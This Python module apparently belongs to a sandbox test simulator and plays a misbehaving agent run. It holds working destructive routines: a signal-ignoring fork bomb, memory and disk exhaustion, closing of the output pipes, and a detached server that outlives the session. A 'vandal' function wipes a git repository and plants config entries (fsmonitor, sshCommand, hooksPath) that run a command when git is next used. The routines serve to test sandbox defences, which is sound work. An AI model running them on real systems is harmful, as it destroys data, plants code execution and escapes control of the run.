"""The worst a run can be to the machine it runs on: what a sandbox, its limits and a sweep are for."""

import os
import shutil
import signal
import socket
import sys
import tempfile
import time
from pathlib import Path

from conveyor.simulator.agent.mischief import FOREVER_S, STOP_SIGNALS
from conveyor.simulator.agent.order import Behaviour, Order
from conveyor.simulator.agent.speech import Speech
from conveyor.simulator.agent.work import agree

_MIB = 1024 * 1024


def fork_bomb(_order: Order, behaviour: Behaviour, _speech: Speech) -> int:
    """Fork until `processes` (400) are there, each ignoring signals and forking again when one is gone; stay."""
    for number in STOP_SIGNALS:
        signal.signal(number, signal.SIG_IGN)
    most, end = int(behaviour.number("processes", 400)), time.monotonic() + behaviour.number("seconds", 30)
    while time.monotonic() < end:
        if _processes() < most:
            os.fork()
        time.sleep(0.005)
    return 1


def hog(_order: Order, behaviour: Behaviour, _speech: Speech) -> int:
    """Take `megabytes` (2,000) of memory in processes of 64 MB each, and stay."""
    for _ in range(int(behaviour.number("megabytes", 2000)) // 64):
        if os.fork() == 0:
            taken = bytearray(os.urandom(_MIB)) * 64
            time.sleep(behaviour.number("seconds", 30))
            os._exit(len(taken) % 2)
    time.sleep(behaviour.number("seconds", 30))
    return 1


def glut(_order: Order, behaviour: Behaviour, _speech: Speech) -> int:
    """Write `megabytes` (2,000) into temporary files of 8 MB each, and stay."""
    folder = Path(tempfile.mkdtemp())
    for number in range(int(behaviour.number("megabytes", 2000)) // 8):
        (folder / f"{number}").write_bytes(os.urandom(_MIB) * 8)
        time.sleep(0.01)
    time.sleep(behaviour.number("seconds", 30))
    return 1


def unplug(_order: Order, behaviour: Behaviour, _speech: Speech) -> int:
    """Close every pipe and stay for `seconds` (an hour)."""
    sys.stdout.flush()
    for descriptor in range(3):
        os.close(descriptor)
    time.sleep(behaviour.number("seconds", FOREVER_S))
    return 1


def binary(order: Order, behaviour: Behaviour, speech: Speech) -> int:
    """Print `bytes` (300,000) that are no text on both streams, then do the work."""
    noise = os.urandom(int(behaviour.number("bytes", 300_000)))
    for stream in (sys.stdout, sys.stderr):
        stream.flush()
        stream.buffer.write(b"\0\xff\xfe\x1b[2J" + noise + b"\n")
        stream.buffer.flush()
    agree(order, behaviour, speech)
    speech.result("done")
    return 0


def vandal(order: Order, behaviour: Behaviour, speech: Speech) -> int:
    """Do the work, then wreck the repository as far as it can be reached, and leave commands for whoever runs git."""
    agree(order, behaviour, speech)
    link = order.cwd / ".git"
    own = Path(link.read_text().partition("gitdir: ")[2].strip()) if link.is_file() else link
    command = f"touch {order.cwd}/pwned"
    evil = f'[core]\n\tfsmonitor = "{command}"\n\thooksPath = {order.cwd}/hooks\n\tsshCommand = "{command}"\n'
    for folder in (own, own.parent.parent):
        for name in ("objects", "refs", "packed-refs", "HEAD", "index", "hooks"):
            _destroy(folder / name)
        for name in ("config", "config.worktree", "commondir", "HEAD"):
            _overwrite(folder / name, evil)
    _destroy(link)
    _overwrite(link, "gitdir: /nowhere\n")
    speech.result("done")
    return 0


def nothing(_order: Order, _behaviour: Behaviour, _speech: Speech) -> int:
    """Exit 0 having done and left nothing."""
    return 0


def server(order: Order, behaviour: Behaviour, speech: Speech) -> int:
    """Leave a server running that has no parent, session or environment of the run; its port stands in `.conveyor`."""
    listening = socket.create_server(("127.0.0.1", 0))
    listening.set_inheritable(True)
    note = order.cwd / ".conveyor" / "server"
    note.parent.mkdir(parents=True, exist_ok=True)
    note.write_text(f"{listening.getsockname()[1]}\n")
    child = os.fork()
    if child == 0:
        os.setsid()
        if os.fork():
            os._exit(0)
        code = "import sys, time; time.sleep(float(sys.argv[1]))"
        program = [sys.executable, "-I", "-S", "-c", code, str(behaviour.number("seconds", FOREVER_S))]
        os.execve(sys.executable, program, {})  # noqa: S606 - becoming another program without a shell is the point
    os.waitpid(child, 0)
    agree(order, behaviour, speech)
    speech.result("done")
    return 0


def _processes() -> int:
    return sum(entry.name.isdigit() for entry in Path("/proc").iterdir())


def _destroy(path: Path) -> None:
    try:
        if path.is_dir() and not path.is_symlink():
            shutil.rmtree(path)
        else:
            path.unlink()
    except OSError:  # it is not there, or a sandbox holds
        return


def _overwrite(path: Path, text: str) -> None:
    try:
        path.write_text(text)
    except OSError:
        return
